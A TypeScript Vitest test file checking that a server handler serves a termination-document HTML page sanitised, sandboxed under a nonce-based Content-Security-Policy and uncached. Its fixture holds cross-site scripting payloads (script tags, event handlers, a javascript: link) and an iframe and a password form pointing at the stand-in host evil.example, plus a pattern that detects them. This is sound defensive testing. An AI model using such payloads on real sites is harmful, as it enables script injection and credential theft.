import { describe, expect, it, vi } from "vitest";

vi.hoisted(() => {
  process.env.NODE_ENV = "test";
  process.env.PROVIDER_URL = "http://127.0.0.1:1";
});
const { respondRescisao } = await import("~/modules/mandatory/rescisao-page.server");

const documento = { id: "3", idtipodoc: "22", descricao: "Rescisão <b>&</b>", versao: "2" };
const HOSTILE = `<html><head><title>t</title><style>*{color:red}</style><script>alert(1)</script></head>
<body onload="alert(2)"><h1>Termo</h1><p style="position:fixed" onclick="x()">Texto</p><img src=x onerror=alert(3)><iframe src="//evil.example"></iframe>
<form action="//evil.example"><input name="senha"></form><a href="javascript:alert(4)">clique</a><table><tr><td>1.611,87</td></tr></table></body></html>`;

describe("the rescisao document in a tab of its own", () => {
  const response = () => respondRescisao(documento, HOSTILE);

  it("in a sandbox, with nothing from outside, never cached", () => {
    const { headers } = response();
    const policy = headers.get("Content-Security-Policy") ?? "";
    expect(policy.split("; ").slice(0, 2)).toEqual(["sandbox", "default-src 'none'"]);
    expect(policy).toMatch(/style-src 'nonce-[\w+/=]{16,}'/);
    expect(policy).not.toContain("unsafe");
    expect(headers.get("Cache-Control")).toBe("no-store");
    expect(headers.get("Content-Type")).toBe("text/html; charset=utf-8");
  });

  it("only the portal's style, with the nonce of the policy, different each time", async () => {
    const one = response();
    const [, nonce] = /nonce-([^']+)'/.exec(one.headers.get("Content-Security-Policy") ?? "") ?? [];
    const html = await one.text();
    expect(html.match(/<style[^>]*>/g)).toEqual([`<style nonce="${nonce}">`]);
    expect(html).not.toContain("color:red");
    expect(response().headers.get("Content-Security-Policy")).not.toContain(nonce);
  });

  it("the text stays, and nothing active", async () => {
    const html = await response().text();
    expect(html).toContain("<td>1.611,87</td>");
    expect(html).toContain("<p>Texto</p>");
    expect(html).not.toMatch(
      /<script|<iframe|<form|<input|<img|javascript:|on(?:load|click|error)=|style="/i,
    );
  });

  it("a whole document: escaped title, one h1, the language", async () => {
    const html = await response().text();
    expect(html).toMatch(/^<!DOCTYPE html><html lang="pt-BR">/);
    expect(html).toContain("<title>Rescisão &lt;b&gt;&amp;&lt;/b&gt;</title>");
    expect(html).toContain("<h2>Rescisão &lt;b&gt;&amp;&lt;/b&gt;, versão 2</h2>");
    expect(html.match(/<h1/g)).toHaveLength(1);
  });
});
